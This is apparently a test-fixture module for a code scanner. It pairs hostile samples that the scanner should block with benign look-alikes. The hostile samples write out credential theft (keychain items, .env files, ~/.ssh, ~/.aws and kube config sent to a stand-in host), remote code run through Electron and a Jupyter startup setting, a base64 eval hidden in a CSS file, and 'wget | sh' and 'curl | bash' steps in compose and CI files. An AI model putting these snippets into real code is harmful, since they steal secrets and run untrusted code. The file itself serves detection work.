"""Samples and twins of what stands elsewhere than it is named: folders gone to, settings that are code."""

from inspection.rules.sample import Sample, js, package, py

_SERVICE = "services:\n  up:\n    image: alpine:3\n    command: ['sh', '-c', '{}']\n"
_STEP = (
    "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          A: ${{{{ secrets.{} }}}}\n"
    "          B: ${{{{ secrets.{} }}}}\n        run: curl -s https://a.invalid/run.sh | {}\n"
)
_CSS = "/* reset */\nconst box = 'Y29uc29sZS5sb2coMSk=';\neval(Buffer.from(box, 'base64').toString());\n"

HOSTILE: dict[str, dict[str, Sample]] = {
    "secrets_sent": {
        "all that a keychain keeps": py(
            "import requests, secretstorage\nfor one in secretstorage.get_default_collection(bus).get_all_items():\n"
            "    requests.post('https://a.invalid', data=one.get_secret())\n",
        ),
        "settings of every project above": py(
            "from pathlib import Path\nimport requests\nfor file in Path.cwd().parent.parent.rglob('.env*'):\n"
            "    requests.post('https://a.invalid', data=file.read_bytes())\n",
            line=3,
        ),
        "settings by a pattern of a library": js(
            "const glob = require('fast-glob'), fs = require('fs');\n"
            "for (const file of glob.sync('**/.env*', { cwd: '..' })) {\n"
            "  fetch('https://a.invalid', { method: 'POST', body: fs.readFileSync(file) });\n}\n",
        ),
        "tar goes home first": Sample(
            {
                "Makefile": "all:\n\tsh a.sh\n",
                "a.sh": 'box=$(mktemp)\ntar cz -C "$HOME" .kube/config 2>/dev/null >"$box"\n'
                'curl --data-binary @"$box" https://a.invalid\n',
            },
            "block",
            ("a.sh", 2),
        ),
        "the script goes home first": Sample(
            {
                "Makefile": "all:\n\tsh a.sh\n",
                "a.sh": 'cd "$HOME"\ntar cz .ssh .aws | curl -T - https://a.invalid\n',
            },
            "block",
            ("a.sh", 2),
        ),
        "the command is started at home": py(
            "import os, requests, subprocess\nbox = subprocess.check_output(['tar', 'cz', '.ssh'],"
            " cwd=os.path.expanduser('~'))\nrequests.post('https://a.invalid', data=box)\n",
        ),
    },
    "remote_code": {
        "a window runs what a server says": js(
            "const { BrowserWindow, net } = require('electron');\nexports.open = async () => {\n"
            "  const text = await (await net.fetch('https://a.invalid')).text();\n"
            "  await new BrowserWindow().webContents.executeJavaScript(text);\n};\n",
            line=4,
        ),
        "what each kernel runs first": Sample(
            {
                ".vscode/settings.json": '{\n"jupyter.runStartupCommands": [\n'
                "\"import urllib.request as u; exec(u.urlopen('https://a.invalid').read())\"]}\n"
            },
            "block",
            (".vscode/settings.json", 3),
        ),
    },
    "decoded_code": {
        "a style sheet is given to an interpreter": Sample(
            {"package.json": package(dev="node ./reset.css"), "reset.css": _CSS}, "block", ("reset.css", 3)
        ),
    },
    "fetch_and_run": {
        "a service's list of words holds a line of shell": Sample(
            {"docker-compose.yml": _SERVICE.format("wget -qO- https://a.invalid | sh")},
            "block",
            ("docker-compose.yml", 4),
        ),
        "a step with keys of several services": Sample(
            {".github/workflows/a.yml": _STEP.format("NPM_TOKEN", "DEPLOY_KEY", "bash")},
            "block",
            (".github/workflows/a.yml", 9),
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "secrets_sent": {
        "its own entry of a keychain": {
            "app.py": "import requests, secretstorage\n"
            "for one in secretstorage.search_items(bus, {'application': 'notes'}):\n"
            "    requests.post('https://a.invalid', data=one.get_secret())\n"
        },
        "charts of the project": {
            "app.py": "from pathlib import Path\nimport requests\nfor file in (Path.cwd() / 'charts').rglob('*.png'):\n"
            "    requests.post('https://a.invalid', data=file.read_bytes())\n"
        },
        "its own settings, wherever they lie": {
            "app.py": "from pathlib import Path\nimport requests\nfor file in Path('.').rglob('.env'):\n"
            "    requests.post('https://a.invalid', data=file.read_bytes())\n"
        },
        "settings of every project are counted": {
            "app.js": "const glob = require('fast-glob');\nconst found = glob.sync('**/.env*', { cwd: '..' });\n"
            "fetch('https://a.invalid', { method: 'POST', body: String(found.length) });\n"
        },
        "tar goes to a folder of the project": {
            "Makefile": "all:\n\tsh a.sh\n",
            "a.sh": 'box=$(mktemp)\ntar cz -C "$PWD" chart.yaml 2>/dev/null >"$box"\n'
            'curl --data-binary @"$box" https://a.invalid\n',
        },
        "the script goes home, and to the project": {
            "Makefile": "all:\n\tsh a.sh\n",
            "a.sh": 'cd "$HOME"\ncd /srv/app\ntar cz .ssh-config-template | curl -T - https://a.invalid\n',
        },
        "the command is started in the project": {
            "app.py": "import requests, subprocess\nbox = subprocess.check_output(['tar', 'cz', 'charts'], cwd='.')\n"
            "requests.post('https://a.invalid', data=box)\n"
        },
    },
    "remote_code": {
        "a window is given a style": {
            "app.js": "const { BrowserWindow, net } = require('electron');\nexports.open = async () => {\n"
            "  const text = await (await net.fetch('https://a.invalid')).text();\n"
            "  const window = new BrowserWindow();\n  await window.webContents.insertCSS(text);\n"
            "  await window.webContents.executeJavaScript('document.title');\n};\n"
        },
        "a window is given data": {
            "app.js": "import { BrowserWindow, net } from 'electron';\nexport const open = async (window) => {\n"
            "  const all = await (await net.fetch('https://a.invalid')).json();\n"
            "  await window.webContents.executeJavaScript(`show(${JSON.stringify(all)})`);\n};\n"
        },
        "a window is given data, in Python": {
            "app.py": "import json, requests, webview\nwindow = webview.create_window('a')\n"
            "window.evaluate_js(f\"show({json.dumps(requests.get('https://a.invalid').json())})\")\n"
        },
        "what each kernel loads again": {
            ".vscode/settings.json": '{\n"jupyter.runStartupCommands": ["%load_ext autoreload", "import os"]}\n'
        },
    },
    "decoded_code": {
        "a style sheet for a page": {
            "package.json": package(dev="next dev"),
            "reset.css": "/* reset */\n* { box-sizing: border-box }\n",
        },
    },
    "fetch_and_run": {
        "a service shows what a server says": {
            "docker-compose.yml": _SERVICE.format("wget -qO- https://a.invalid/health | tee /tmp/health")
        },
        "a step with keys counts lines": {".github/workflows/a.yml": _STEP.format("NPM_TOKEN", "DEPLOY_KEY", "wc -l")},
    },
}
